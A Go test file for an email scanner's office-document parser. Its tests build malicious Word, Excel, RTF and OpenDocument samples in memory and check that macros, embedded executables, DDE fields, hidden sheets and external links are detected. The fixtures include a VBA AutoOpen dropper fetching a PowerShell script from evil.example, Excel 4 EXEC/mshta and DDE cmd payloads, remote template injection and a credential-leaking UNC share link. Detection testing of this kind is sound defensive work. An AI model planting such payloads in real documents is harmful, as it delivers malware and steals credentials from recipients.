package office_test

// Documents that attackers send, each made here: nothing of them is stored.

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/tqmailrules/tqmailrules/engine"
	"github.com/tqmailrules/tqmailrules/internal/cfb/cfbtest"
)

// part is a file in an archive.
type part struct{ name, text string }

func archive(t testing.TB, parts ...part) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range parts {
		w, err := z.Create(p.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(p.text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func rels(list ...string) string {
	var b strings.Builder
	b.WriteString(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for i, r := range list {
		kind, target, _ := strings.Cut(r, " ")
		mode := ""
		if rest, ok := strings.CutPrefix(target, "! "); ok {
			target, mode = rest, ` TargetMode="External"`
		}
		fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>`, i+1, kind, target, mode)
	}
	return b.String() + `</Relationships>`
}

var rootRels = part{"_rels/.rels", rels("officeDocument word/document.xml")}

func docx(t testing.TB, body string, more ...part) []byte {
	t.Helper()
	return archive(t, append([]part{rootRels, {"word/document.xml", `<w:document xmlns:w="w" xmlns:r="r"><w:body>` + body + `</w:body></w:document>`}}, more...)...)
}

// pack compresses as MS-OVBA does, with literal tokens only.
func pack(source string) []byte {
	out := []byte{1}
	for len(source) > 0 {
		n := min(len(source), 3600)
		var chunk []byte
		for i := 0; i < n; i += 8 {
			chunk = append(append(chunk, 0), source[i:min(n, i+8)]...)
		}
		out = binary.LittleEndian.AppendUint16(out, uint16(len(chunk)-1)|0xb000)
		out, source = append(out, chunk...), source[n:]
	}
	return out
}

func dirRecord(id uint16, value string) []byte {
	return slices.Concat(binary.LittleEndian.AppendUint16(nil, id), le32(uint32(len(value))), []byte(value))
}

// project is a macro project with modules of the given sources; junk stands
// before each, as performance caches do.
func project(modules ...part) []cfbtest.Node {
	dir := slices.Concat(dirRecord(1, "\x03\x00\x00\x00"), dirRecord(3, "\xe3\x04"), dirRecord(4, "Project"),
		[]byte{9, 0, 4, 0, 0, 0, 1, 2, 3, 4, 5, 6})
	var streams []cfbtest.Node
	for _, m := range modules {
		junk := pseudo(m.name, 700)
		dir = slices.Concat(dir, dirRecord(0x19, m.name), dirRecord(0x1a, m.name), dirRecord(0x32, string(pass16(m.name))), dirRecord(0x31, string(le32(700))), dirRecord(0x21, ""), dirRecord(0x2b, ""))
		streams = append(streams, cfbtest.Node{Name: m.name, Data: append(junk, pack(m.text)...)})
	}
	streams = append(streams, cfbtest.Node{Name: "dir", Data: pack(string(dir))}, cfbtest.Node{Name: "_VBA_PROJECT", Data: []byte{0xcc, 0x61}})
	return []cfbtest.Node{{Name: "VBA", Kids: streams}, {Name: "PROJECT", Data: []byte("ID=x")}}
}

const dropper = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"powershell -c iwr https://evil.example/a.ps1\"\r\nEnd Sub\r\n"

// native is a file as the packager embeds it.
func native(label string, content []byte) []byte {
	body := slices.Concat([]byte{2, 0}, []byte(label+"\x00"), []byte(`C:\Users\x\`+label+"\x00"), []byte{0, 0, 3, 0}, le32(4), []byte("tmp\x00"), le32(uint32(len(content))), content)
	return append(le32(uint32(len(body))), body...)
}

func TestMacrosBecomeMembers(t *testing.T) {
	broken := project(part{"Module1", dropper})
	for i := range broken[0].Kids {
		if broken[0].Kids[i].Name == "dir" {
			broken[0].Kids[i].Data = []byte("not a container")
		}
	}
	plain := docx(t, `<w:p><w:r><w:t>enable content</w:t></w:r></w:p>`, part{"word/vbaProject.bin", string(cfbtest.File(project(part{"Module1", dropper})...))})
	for _, tc := range []struct {
		name   string
		file   []byte
		member string
		codes  string
	}{
		{"docm", plain, "word/vbaProject.bin/VBA/Module1.bas", ""},
		{"docm, no dir stream", docx(t, "", part{"word/vbaProject.bin", string(cfbtest.File(broken...))}), "word/vbaProject.bin/VBA/Module1.bas", engine.DefectUnreadable},
		{"another name", docx(t, "", part{"word/_rels/document.xml.rels", rels("vbaProject x.dat")}, part{"word/x.dat", string(cfbtest.File(project(part{"Module1", dropper})...))}), "word/x.dat/VBA/Module1.bas", ""},
		{"doc", cfbtest.File(append(mapStreams(t, file(t, "letter.doc"), func(_ string, b []byte) []byte { return b }), cfbtest.Node{Name: "Macros", Kids: project(part{"Module1", dropper})})...), "Macros/VBA/Module1.bas", ""},
		{"xls", cfbtest.File(append(mapStreams(t, file(t, "book.xls"), func(_ string, b []byte) []byte { return b }), cfbtest.Node{Name: "_VBA_PROJECT_CUR", Kids: project(part{"Module1", dropper})})...), "_VBA_PROJECT_CUR/VBA/Module1.bas", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(t, tc.file)
			m := r.child(t, tc.member)
			if !r.HasMacros || !strings.Contains(m.Text, "https://evil.example/a.ps1") || m.FileType != "vba" {
				t.Errorf("macros %t, module %q of type %q", r.HasMacros, m.Text, m.FileType)
			}
			if r.Metadata["auto_macro"] != "AutoOpen" || r.codes() != tc.codes {
				t.Errorf("runs by itself: %q; defects %v", r.Metadata["auto_macro"], r.defects)
			}
		})
	}
}

func TestEmbeddedFilesBecomeMembers(t *testing.T) {
	payload := []byte("MZ this is a program")
	ole := string(cfbtest.File(cfbtest.Node{Name: "\x01Ole10Native", Data: native("invoice.exe", payload)}))
	inner := string(docx(t, `<w:p><w:r><w:t>inner</w:t></w:r></w:p>`))
	r := read(t, docx(t, `<w:p/>`,
		part{"word/_rels/document.xml.rels", rels("oleObject embeddings/oleObject1.bin", "package embeddings/inner.docx", "aFChunk chunk.htm", "oleObject odd/name.doc")},
		part{"word/embeddings/oleObject1.bin", ole},
		part{"word/embeddings/inner.docx", inner},
		part{"word/odd/name.doc", string(cfbtest.File(cfbtest.Node{Name: "Package", Data: []byte(inner)}))},
		part{"word/chunk.htm", "<html><a href='https://evil.example/'>x</a></html>"},
		part{"word/media/image1.png", "\x89PNG\r\n\x1a\n"},
		part{"word/payload.exe", "MZ"},
	))
	for name, want := range map[string]string{"oleObject1.bin/invoice.exe": string(payload), "inner.docx": inner, "name.doc/Package": inner, "chunk.htm": "<html>", "image1.png": "\x89PNG", "payload.exe": "MZ"} {
		got, err := engine.ReadAll(r.child(t, name).Content, 1<<20)
		if err != nil || !strings.HasPrefix(string(got), want) {
			t.Errorf("%s: %.40q, %v", name, got, err)
		}
	}
	if !strings.HasSuffix(r.Metadata["object_source"], `invoice.exe`) {
		t.Errorf("facts %v", r.Metadata)
	}
}

func TestWordTellsWhatLeadsOut(t *testing.T) {
	run := func(s string) string { return "<w:r>" + s + "</w:r>" }
	char := func(kind string) string { return run(`<w:fldChar w:fldCharType="` + kind + `"/>`) }
	instr := func(s string) string { return run(`<w:instrText xml:space="preserve">` + s + `</w:instrText>`) }
	text := func(s string) string { return run("<w:t>" + s + "</w:t>") }
	body := "<w:p>" + char("begin") + instr(` HYPERLINK "https://evil`) + instr(`.example/split" \l "x" `) + char("separate") + text("https://bank.example/") + char("end") + "</w:p>" +
		"<w:p>" + char("begin") + instr(` DDEAUTO `) + char("begin") + instr(` QUOTE 99 109 100 `) + char("end") + instr(` "/k calc" `) + char("end") + "</w:p>" +
		`<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://pixel.example/a.png&quot; \d ">` + text("pic") + `</w:fldSimple></w:p>` +
		`<w:p><w:hyperlink r:id="rId2">` + text("click") + text(" here") + `</w:hyperlink></w:p>` +
		`<w:p><mc:AlternateContent><mc:Choice Requires="wps">` + text("boxed once") + `</mc:Choice><mc:Fallback>` + text("boxed once") + `</mc:Fallback></mc:AlternateContent></w:p>` +
		`<w:p><mc:AlternateContent><mc:Choice Requires="none">` + text("decoy") + `</mc:Choice><mc:Fallback>` + text("what Word shows") + `</mc:Fallback></mc:AlternateContent></w:p>` +
		`<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r><w:del><w:r><w:delText>struck</w:delText></w:r></w:del></w:p>`
	r := read(t, docx(t, body,
		part{"word/_rels/document.xml.rels", rels("settings settings.xml", "hyperlink ! https://evil.example/rel", "frame ! https://evil.example/frame", "hyperlink ! https://evil.example/unused")},
		part{"word/_rels/settings.xml.rels", rels("attachedTemplate ! http://evil.example/t.dotm", "oleObject ! mhtml:https://a.evil.example/x!x-usc:https://b.evil.example/y")},
	))
	want := "https://evil.example/split [https://bank.example/]\nhttp://pixel.example/a.png []\nhttps://evil.example/rel [click here]\n" +
		"https://evil.example/frame []\nhttps://evil.example/unused []\nhttp://evil.example/t.dotm []\nhttps://a.evil.example/x []\nhttps://b.evil.example/y []"
	if got := r.links(); got != want {
		t.Errorf("links\n%s\nwant\n%s", got, want)
	}
	for name, want := range map[string]string{
		"dde":             "DDEAUTO cmd /k calc",
		"hidden_text":     "unseen",
		"deleted_text":    "struck",
		"external_target": "http://pixel.example/a.png; https://evil.example/frame; http://evil.example/t.dotm; mhtml:https://a.evil.example/x!x-usc:https://b.evil.example/y",
	} {
		if got := r.Metadata[name]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if !r.Links[0].Mismatched || strings.Count(r.Text, "boxed once") != 1 || !strings.Contains(r.Text, "what Word shows") {
		t.Errorf("text %q", r.Text)
	}
}

// TestLinksToSharesAreFacts: a click on one hands over the credentials of whoever
// clicks, and no URL says so.
func TestLinksToSharesAreFacts(t *testing.T) {
	share := `\\203.0.113.5\share\a.lnk`
	for name, whole := range map[string][]byte{
		"docx":  docx(t, "", part{"word/_rels/document.xml.rels", rels("hyperlink ! " + share)}),
		"field": docx(t, `<w:fldSimple w:instr='HYPERLINK "`+strings.ReplaceAll(share, `\`, `\\`)+`"'/>`),
		"rtf":   []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "` + strings.ReplaceAll(share, `\`, `\\\\`) + `"}{\fldrslt x}}}`),
		"odt":   archive(t, part{"mimetype", ""}, part{"META-INF/manifest.xml", "<m/>"}, part{"content.xml", `<text:p><text:a xlink:href="` + share + `">x</text:a></text:p>`}),
	} {
		if r := read(t, whole); r.Metadata["external_target"] != share {
			t.Errorf("%s: %q", name, r.Metadata["external_target"])
		}
	}
}

func TestWorkbooksTellWhatLeadsOut(t *testing.T) {
	r := read(t, archive(t,
		part{"_rels/.rels", rels("officeDocument xl/workbook.xml")},
		part{"xl/workbook.xml", `<workbook><sheets><sheet name="Main" r:id="rId1"/><sheet name="Deep" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`},
		part{"xl/_rels/workbook.xml.rels", rels("worksheet worksheets/sheet1.xml", "xlMacrosheet macrosheets/sheet1.xml", "externalLink externalLinks/externalLink1.xml")},
		part{"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row r="2"><c r="B2" t="inlineStr"><is><r><t>in</t></r><r><t>line</t></r><rPh><t>aloud</t></rPh></is></c><c r="D2"><f>cmd|'/c calc'!A0</f><v>0.30000000000000004</v></c><c r="E2" t="str"><f>WEBSERVICE("https://evil."&amp;"example/ws")</f><v>w</v></c></row></sheetData><hyperlinks><hyperlink ref="B2" r:id="rId1"/></hyperlinks></worksheet>`},
		part{"xl/worksheets/_rels/sheet1.xml.rels", rels("hyperlink ! https://evil.example/cell")},
		part{"xl/macrosheets/sheet1.xml", `<xm:macrosheet><sheetData><row r="1"><c r="A1"><f>EXEC("mshta https://evil.example/m.hta")</f></c></row></sheetData></xm:macrosheet>`},
		part{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c notepad"/></externalLink>`},
		part{"xl/connections.xml", `<connections><connection><webPr url="https://evil.example/q"/></connection></connections>`},
	))
	if want := "inline\t0.3 =cmd|'/c calc'!A0\tw =WEBSERVICE(\"https://evil.\"&\"example/ws\")\n=EXEC(\"mshta https://evil.example/m.hta\")\n"; r.Text != want {
		t.Errorf("text %q, want %q", r.Text, want)
	}
	for name, want := range map[string]string{"dde": `cmd|'/c calc'!A0; cmd|/c notepad`, "hidden_sheets": "Deep (veryHidden)", "auto_macro": "_xlnm.Auto_Open", "macro_sheets": "Deep", "external_target": "https://evil.example/q"} {
		if got := r.Metadata[name]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	for _, want := range []string{"https://evil.example/ws", "https://evil.example/cell [inline]", "https://evil.example/q"} {
		if !strings.Contains(r.links(), want) {
			t.Errorf("no link %q in %q", want, r.links())
		}
	}
	if !r.HasMacros || r.place(t, "EXEC") != "Deep!A1" || r.place(t, "inline") != "Main!B2" {
		t.Errorf("macros %t, %v", r.HasMacros, r.Places)
	}
}

// brt is a record of a binary workbook.
func brt(kind int, body ...[]byte) []byte {
	b := slices.Concat(body...)
	var head []byte
	if kind < 128 {
		head = append(head, byte(kind))
	} else {
		head = append(head, byte(kind&0x7f|0x80), byte(kind>>7))
	}
	n := len(b)
	for ; n >= 128; n >>= 7 {
		head = append(head, byte(n&0x7f|0x80))
	}
	return append(append(head, byte(n)), b...)
}

func wideString(s string) []byte {
	u := pass16(s)
	return append(le32(uint32(len(u)/2)), u...)
}

func TestBinaryWorkbooks(t *testing.T) {
	f64 := func(v float64) []byte { return binary.LittleEndian.AppendUint64(nil, math.Float64bits(v)) }
	at := func(col, style int) []byte { return append(le32(uint32(col)), le32(uint32(style))...) }
	r := read(t, archive(t,
		part{"_rels/.rels", rels("officeDocument xl/workbook.bin")},
		part{"xl/workbook.bin", string(slices.Concat(brt(131), brt(153, le32(0)), brt(156, le32(0), le32(1), wideString("rId1"), wideString("First")), brt(156, le32(2), le32(2), wideString("rId2"), wideString("Second")), brt(132)))},
		part{"xl/_rels/workbook.bin.rels", rels("worksheet worksheets/sheet1.bin", "worksheet worksheets/sheet2.bin", "sharedStrings sharedStrings.bin", "styles styles.bin")},
		part{"xl/sharedStrings.bin", string(slices.Concat(brt(159, le32(2), le32(2)), brt(19, []byte{0}, wideString("Überweisung")), brt(19, []byte{0}, wideString("https://evil.example/shared")), brt(160)))},
		part{"xl/styles.bin", string(slices.Concat(brt(617, le32(2)), brt(47, []byte{0, 0, 0, 0}), brt(47, []byte{0, 0, 14, 0}), brt(618)))},
		part{"xl/worksheets/sheet1.bin", string(slices.Concat(brt(129), brt(0, le32(2), le32(0)), brt(7, at(1, 0), le32(0)), brt(5, at(2, 0), f64(12.5)), brt(2, at(3, 0), le32(42<<2|2)), brt(5, at(4, 1), f64(46095)), brt(4, at(5, 0), []byte{1}), brt(8, at(6, 0), wideString("from a formula")),
			brt(0, le32(9), le32(0)), brt(7, at(0, 0), le32(1)), brt(7, at(1, 0), le32(77)), brt(494, le32(2), le32(2), le32(1), le32(1), wideString("rId1"), le32(0), le32(0), le32(0)), brt(130)))},
		part{"xl/worksheets/_rels/sheet1.bin.rels", rels("hyperlink ! https://evil.example/xlsb")},
		part{"xl/worksheets/sheet2.bin", string(slices.Concat(brt(0, le32(0), le32(0)), brt(6, at(0, 0), wideString("hidden away"))))},
	))
	if want := "Überweisung\t12.5\t42\t2026-03-14\tTRUE\tfrom a formula\nhttps://evil.example/shared\nhidden away\n"; r.Text != want || r.codes() != "" {
		t.Errorf("text %q, want %q; defects %v", r.Text, want, r.defects)
	}
	if r.place(t, "Über") != "First!B3" || r.Metadata["hidden_sheets"] != "Second (veryHidden)" || r.links() != "https://evil.example/xlsb [Überweisung]" {
		t.Errorf("places %v, facts %v, links %q", r.Places, r.Metadata, r.links())
	}
}

// biff is a record of a workbook of before 2007.
func biff(kind uint16, body ...[]byte) []byte {
	b := slices.Concat(body...)
	return slices.Concat(binary.LittleEndian.AppendUint16(nil, kind), binary.LittleEndian.AppendUint16(nil, uint16(len(b))), b)
}

func le16(v int) []byte { return binary.LittleEndian.AppendUint16(nil, uint16(v)) }

func TestMacroSheetsOfOldWorkbooks(t *testing.T) {
	str := func(s string) []byte { return append([]byte{0x17, byte(len(s)), 0}, s...) }
	char := func(c byte) []byte { return []byte{0x1e, c, 0, 0x41, 111, 0} }
	expression := slices.Concat(str("mshta ht"), char('t'), []byte{8}, str("ps://evil.example/x"), []byte{8}, []byte{0x42, 1, 110, 0})
	formula := func(row int, e []byte) []byte {
		return biff(6, le16(row), le16(0), le16(0), make([]byte, 8), le16(0), le32(0), le16(len(e)), e)
	}
	bof := biff(0x0809, le16(0x0600), le16(5), make([]byte, 12))
	bound := func(off int, state, kind byte, name string) []byte {
		return biff(0x85, le32(uint32(off)), []byte{state, kind, byte(len(name)), 0}, []byte(name))
	}
	globals := func(off int) []byte {
		return slices.Concat(bof, bound(off, 2, 1, "Macro1"),
			biff(0x18, le16(0x21), []byte{0, 1}, le16(0), le16(0), le16(1), le32(0), []byte{0, 1}),
			biff(0x1ae, le16(1), le16(len("cmd\x03/c calc")), []byte{0}, []byte("cmd\x03/c calc")),
			biff(10))
	}
	stream := slices.Concat(globals(len(globals(0))), bof, formula(0, expression), biff(10))
	r := read(t, cfbtest.File(cfbtest.Node{Name: "Workbook", Data: stream}))
	if want := "0 =EXEC(\"mshta ht\"&\"t\"&\"ps://evil.example/x\")\n"; r.Text != want || !r.HasMacros {
		t.Errorf("text %q, want %q; macros %t", r.Text, want, r.HasMacros)
	}
	for name, want := range map[string]string{"auto_macro": "Auto_Open", "hidden_sheets": "Macro1 (veryHidden)", "macro_sheets": "Macro1", "dde": "cmd|/c calc"} {
		if got := r.Metadata[name]; got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if r.place(t, "EXEC") != "Macro1!A1" {
		t.Errorf("places %v", r.Places)
	}
}

// TestSharedStringsRunOn puts the end of a record into the middle of texts, of
// each width.
func TestSharedStringsRunOn(t *testing.T) {
	bof := biff(0x0809, le16(0x0600), le16(5), make([]byte, 12))
	cells := slices.Concat(biff(0xfd, le16(0), le16(0), le16(0), le32(0)), biff(0xfd, le16(0), le16(1), le16(0), le32(1)), biff(0xfd, le16(0), le16(2), le16(0), le32(2)))
	stream := slices.Concat(bof,
		biff(0xfc, le32(3), le32(3), le16(10), []byte{0}, []byte("narrow")), biff(0x3c, []byte{1}, pass16("wide"), le16(4), []byte{1}, pass16("При")),
		biff(0x3c, []byte{1}, pass16("в"), le16(3), []byte{8}, le16(1), []byte("end"), le32(0)),
		biff(10), bof, cells, biff(10))
	if r := read(t, cfbtest.File(cfbtest.Node{Name: "Workbook", Data: stream})); r.Text != "narrowwide\tПрив\tend\n" {
		t.Errorf("text %q, defects %v", r.Text, r.defects)
	}
}

func TestRTFObjectsAreFound(t *testing.T) {
	ole1 := func(class string, data []byte) []byte {
		return slices.Concat(le32(0x501), le32(2), le32(uint32(len(class)+1)), []byte(class+"\x00"), le32(0), le32(0), le32(uint32(len(data))), data)
	}
	pkg := native("invoice.js", []byte("eval(1)"))[4:]
	plain := hex.EncodeToString(ole1("Package", pkg))
	var odd strings.Builder
	for i, c := range strings.ToUpper(plain) {
		odd.WriteRune(c)
		if i%7 == 3 {
			odd.WriteString("\r\n{\\*\\junk ab12}\\unknown9 {}")
		}
	}
	ole2 := cfbtest.File(cfbtest.Node{Name: "\x01Ole10Native", Data: native("run.exe", []byte("MZ"))})
	for _, tc := range []struct{ name, text, member, class string }{
		{"plain", `{\rtf1 hi {\object\objemb{\*\objclass Package}{\*\objdata ` + plain + `}{\result shown}}}`, "invoice.js", "Package"},
		{"obfuscated", `{\rt hi {\object{\*\objdata ` + odd.String() + `}}`, "invoice.js", "Package"},
		{"never closed", `{\rtf1{\object\objupdate{\objdata ` + plain, "invoice.js", "Package"},
		{"binary", `{\rtf1{\object{\*\objdata\bin` + fmt.Sprint(len(ole1("Package", pkg))) + ` ` + string(ole1("Package", pkg)) + `}}}`, "invoice.js", "Package"},
		{"storage", `{\rtf1{\object{\*\objdata ` + hex.EncodeToString(ole1("OLE2Link", ole2)) + `}}}`, "run.exe", "OLE2Link"},
		{"no OLE 1 around it", `{\rtf1{\object{\*\objdata ` + hex.EncodeToString(append([]byte("\x01\x02\x03"), ole2...)) + `}}}`, "run.exe", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(t, []byte(tc.text))
			r.child(t, tc.member)
			if r.Metadata["object_class"] != tc.class || r.codes() != "" {
				t.Errorf("class %q, defects %v", r.Metadata["object_class"], r.defects)
			}
		})
	}
}

func TestRTFText(t *testing.T) {
	for _, tc := range []struct{ name, text, want, links string }{
		{"code pages", `{\rtf1\ansi\ansicpg1251{\fonttbl{\f0\fcharset204 A;}{\f1\fcharset161 B;}}\f0 \'cf\'f0\f1 \'c1{\f0 \'e8}}`, "ПрΑи\n", ""},
		{"unicode", `{\rtf1\uc1 \u1055?\u-10179?\u-8704?{\uc2 \u1088ab}\u8364\'80x}`, "П😀р€x\n", ""},
		{"escapes", `{\rtf1 a\{b\}\\c\~d\_e\par f\tab g\emdash h\line\'e9}`, "a{b}\\c\u00a0d-e\nf\tg—h\né\n", ""},
		{"destinations", `{\rtf1{\info{\title T}}{\stylesheet{\s0 Normal;}}{\*\unknown hidden}{\header head\par}seen{\footnote note}}`, "head\nseen\nnote\n", ""},
		{"a field", `{\rtf1 {\field{\*\fldinst{ HYPERLINK "https://evil.example/rtf" }}{\fldrslt{\ul https://bank.example}}} end}`, "https://bank.example end\n", "https://evil.example/rtf [https://bank.example]"},
		{"a template", `{\rtf1{\*\template http://evil.example/t.dot}x}`, "x\n", "http://evil.example/t.dot []"},
		{"a link of a shape", `{\rtf1{\shp{\*\shpinst{\sp{\sn pihlShape}{\sv {\*\hl{\hlfr f}{\hlsrc https://evil.example/shape}}}}{\shptxt boxed\par}}}}`, "boxed\n", ""},
		{"binary that looks like text", "{\\rtf1 a\\bin5 }}}}}b}", "ab\n", ""},
		{"braces too many", `{\rtf1 a}}}} b`, "a b\n", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := read(t, []byte(tc.text))
			if r.Text != tc.want || tc.links != "" && r.links() != tc.links {
				t.Errorf("text %q, want %q; links %q, want %q", r.Text, tc.want, r.links(), tc.links)
			}
		})
	}
}

func TestOpenDocumentsTellWhatLeadsOut(t *testing.T) {
	r := read(t, archive(t,
		part{"mimetype", "application/vnd.oasis.opendocument.text"},
		part{"META-INF/manifest.xml", `<manifest:manifest/>`},
		part{"content.xml", `<office:document-content><office:body><office:text><text:tracked-changes><text:deletion><text:p>struck</text:p></text:deletion></text:tracked-changes><text:p>a<text:s text:c="3"/>b</text:p><text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c" office:dde-item="calc"/></text:dde-connection-decls><draw:image xlink:href="https://evil.example/pixel.png"/><draw:a xlink:href="https://evil.example/picture"><draw:frame/></draw:a><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:text></office:body></office:document-content>`},
		part{"Basic/Standard/Module1.xml", `<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module script:name="Module1">Sub Document_Open&#10;Shell(&quot;calc&quot;)&#10;End Sub</script:module>`},
		part{"Scripts/python/x.py", "import os"},
		part{"Object 1/content.xml", `<office:document-content><text:p>inside an object</text:p></office:document-content>`},
		part{"Object 2", string(cfbtest.File(cfbtest.Node{Name: "\x01Ole10Native", Data: native("run.exe", []byte("MZ"))}))},
		part{"Pictures/1.png", "\x89PNG\r\n\x1a\n"},
	))
	if want := "struck\na   b\ninside an object\n"; r.Text != want || r.codes() != "" {
		t.Errorf("text %q, want %q; defects %v", r.Text, want, r.defects)
	}
	for name, want := range map[string]string{"dde": "cmd /c calc", "deleted_text": "struck", "external_target": "https://evil.example/pixel.png", "auto_macro": "dom:load vnd.sun.star.script:Standard.Module1.Main"} {
		if got := r.Metadata[name]; !strings.Contains(got, want) {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	if m := r.child(t, "Module1.bas"); !r.HasMacros || m.Text != "Sub Document_Open\nShell(\"calc\")\nEnd Sub" {
		t.Errorf("macros %t, %q", r.HasMacros, m.Text)
	}
	for _, name := range []string{"x.py", "run.exe", "1.png"} {
		r.child(t, name)
	}
	if !strings.Contains(r.links(), "https://evil.example/picture") {
		t.Errorf("links %q", r.links())
	}
}

func TestDocumentsWithoutADirectoryAreRead(t *testing.T) {
	whole := file(t, "letter.docx")
	cut := whole[:bytes.Index(whole, []byte("PK\x01\x02"))]
	r := read(t, cut)
	if share, _ := recall(string(file(t, "letter.txt")), r.Text); share < 0.97 || r.codes() != engine.DefectUnreadable || r.Metadata["damaged_archive"] != "true" {
		t.Errorf("recall %.3f, defects %v, facts %v", share, r.defects, r.Metadata)
	}
}
